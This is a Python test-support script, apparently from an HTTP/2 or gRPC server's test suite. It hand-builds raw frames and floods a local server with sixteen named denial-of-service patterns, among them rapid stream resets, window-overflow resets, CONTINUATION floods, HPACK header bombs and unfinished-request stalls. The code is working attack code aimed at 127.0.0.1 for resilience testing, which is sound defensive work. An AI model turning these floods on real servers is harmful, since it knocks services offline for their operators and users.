"""What a hostile HTTP/2 client sends, at full speed.

    python -m support.floods PORT NAME SECONDS

Connects again whenever the server closes, and prints what happened as JSON.
"""

import json
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) \
        + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def block(*more):
    """A request's header block: POST, http, a path, and what is given."""
    fields = [(b":path", b"/martlet.echo.v1.Echo/Echo"), (b":authority", b"x"),
              (b"content-type", b"application/grpc"), *more]
    return b"\x83\x86" + b"".join(literal(*field) for field in fields)


def streams(count, *frames):
    """So many streams, for each the frames that functions of its number give."""
    return b"".join(make(2 * n + 1) for n in range(count) for make in frames)


def opened(*more, flags=END_HEADERS):
    header_block = block(*more)
    return lambda stream: frame(HEADERS, flags, stream, header_block)


def pings():
    return frame(PING, payload=bytes(8)) * 50_000


def settings():
    return frame(SETTINGS) * 50_000


def large_settings():
    return frame(SETTINGS, payload=struct.pack(">HI", 3, 100) * 1_000) * 20


def priorities():
    return frame(PRIORITY, stream=3, payload=b"\0\0\0\1\0") * 50_000


def unknown_frames():
    return frame(99) * 50_000


def empty_data():
    return opened()(1) + frame(DATA, stream=1) * 50_000


def window_updates():
    return frame(WINDOW, payload=b"\0\0\0\1") * 50_000


def rapid_resets():
    return streams(20_000, opened(), lambda s: frame(RST, stream=s, payload=b"\0\0\0\x08"))


def overflown_windows():
    """The server resets each stream (MadeYouReset)."""
    return streams(
        5_000, opened(), lambda s: frame(WINDOW, stream=s, payload=b"\x7f\xff\xff\xff"))


def long_bodies():
    """Bodies longer than their content-length: the server resets each stream."""
    return streams(
        5_000, opened((b"content-length", b"1")), lambda s: frame(DATA, stream=s, payload=b"four"))


def continuations():
    return frame(HEADERS, 0, 1, block()) + frame(CONTINUATION, 0, 1, literal(b"x", b"y")) * 50_000


def header_bombs():
    """References to one large field: 60 MB of fields in each 16 kB."""
    large = b"\x40" + b"\x06x-bomb" + b"\x7f" + struct.pack("B", 0x81) + b"\x1d" + b"v" * 3_840
    first = frame(HEADERS, END_HEADERS, 1, block() + large)
    bomb = lambda stream: frame(HEADERS, END_HEADERS, stream, block() + b"\xbe" * 16_000)
    return first + b"".join(bomb(2 * n + 3) for n in range(200))


def stale_streams():
    return opened()(9) + opened()(3)


def unread_answers():
    """Calls whose answers nobody reads."""
    message = b"\0" + struct.pack(">I", 16_000) + bytes(16_000)
    return streams(
        900, opened(), lambda s: frame(DATA, END_STREAM, s, message))


def unfinished_requests():
    """Requests of which all but the end is sent."""
    prefix = b"\0" + struct.pack(">I", 4_000_000)
    part = lambda s: frame(DATA, 0, s, bytes(16_384)) * 40
    return streams(200, opened(), lambda s: frame(DATA, 0, s, prefix), part)


def connections():
    return b""


FLOODS = {make.__name__: make for make in (
    pings, settings, large_settings, priorities, unknown_frames, empty_data, window_updates,
    rapid_resets, overflown_windows, long_bodies, continuations, header_bombs, stale_streams,
    unread_answers, unfinished_requests, connections)}


def attack(port, name, seconds):
    flood = FLOODS[name]()
    outcome = {"connections": 0, "closed": 0, "bytes": 0}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with socket.create_connection(("127.0.0.1", port)) as connection:
            outcome["connections"] += 1
            connection.settimeout(max(0.1, end - time.monotonic()))
            try:
                connection.sendall(PREFACE + frame(SETTINGS))
                if not flood:
                    continue
                while time.monotonic() < end:
                    connection.sendall(flood)
                    outcome["bytes"] += len(flood)
                    if name in ("unread_answers", "unfinished_requests"):
                        time.sleep(max(0, end - time.monotonic()))
                    else:
                        while connection.recv(1 << 16):
                            pass
                        raise ConnectionResetError
            except TimeoutError:
                pass
            except OSError:
                outcome["closed"] += 1
    return outcome


if __name__ == "__main__":
    print(json.dumps(attack(int(sys.argv[1]), sys.argv[2], float(sys.argv[3]))))
